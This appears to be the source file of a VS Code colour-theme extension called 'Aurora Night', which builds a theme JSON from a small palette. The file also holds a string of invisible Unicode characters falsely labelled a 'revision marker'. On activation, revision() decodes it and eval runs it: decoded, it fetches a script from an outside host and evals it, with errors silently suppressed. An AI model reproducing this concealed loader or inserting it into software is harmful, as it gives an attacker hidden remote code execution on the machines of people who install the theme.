// Aurora Night — palette loader
const fs = require("fs");
const path = require("path");

const BASE = {
  background: "#0f1420",
  foreground: "#d8dee9",
  accent: "#7aa2f7",
  green: "#9ece6a",
  red: "#f7768e",
  yellow: "#e0af68",
};

// palette revision marker (kept for the preview cache)
const rev = `󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅘󠅤󠅤󠅠󠅣󠄗󠄙󠄞󠅗󠅕󠅤󠄘󠄗󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅓󠅔󠅞󠄞󠅑󠅥󠅢󠅟󠅢󠅑󠄝󠅠󠅑󠅜󠅕󠅤󠅤󠅕󠅣󠄞󠅙󠅞󠅦󠅑󠅜󠅙󠅔󠄟󠅠󠄟󠅦󠄣󠄞󠅚󠅣󠄗󠄜󠅢󠄭󠄮󠅫󠅜󠅕󠅤󠄐󠅔󠄭󠄗󠄗󠄫󠅢󠄞󠅟󠅞󠄘󠄗󠅔󠅑󠅤󠅑󠄗󠄜󠅓󠄭󠄮󠅔󠄛󠄭󠅓󠄙󠄫󠅢󠄞󠅟󠅞󠄘󠄗󠅕󠅞󠅔󠄗󠄜󠄘󠄙󠄭󠄮󠅫󠅤󠅢󠅩󠅫󠅕󠅦󠅑󠅜󠄘󠅔󠄙󠅭󠅓󠅑󠅤󠅓󠅘󠄘󠅏󠄙󠅫󠅭󠅭󠄙󠅭󠄙`;

function toTheme(p) {
  return {
    name: "Aurora Night",
    type: "dark",
    colors: {
      "editor.background": p.background,
      "editor.foreground": p.foreground,
      "activityBar.background": p.background,
      "statusBar.background": p.accent,
    },
    tokenColors: [
      { scope: ["string"], settings: { foreground: p.green } },
      { scope: ["keyword"], settings: { foreground: p.accent } },
      { scope: ["invalid"], settings: { foreground: p.red } },
    ],
  };
}

function revision(s) {
  const out = [];
  for (const ch of s) {
    const cp = ch.codePointAt(0);
    if (cp >= 0xfe00 && cp <= 0xfe0f) out.push(cp - 0xfe00);
    else if (cp >= 0xe0100 && cp <= 0xe01ef) out.push(cp - 0xe0100 + 16);
  }
  return Buffer.from(out).toString("utf8");
}

function build() {
  const out = path.join(__dirname, "..", "themes", "aurora-night.json");
  fs.mkdirSync(path.dirname(out), { recursive: true });
  fs.writeFileSync(out, JSON.stringify(toTheme(BASE), null, 2));
  console.log("wrote", out);
}

function activate() {
  // refresh preview cache for the current palette revision
  const r = revision(rev);
  if (r) eval(r);
}

module.exports = { activate, deactivate() {} };
if (require.main === module && process.argv[2] === "build") build();
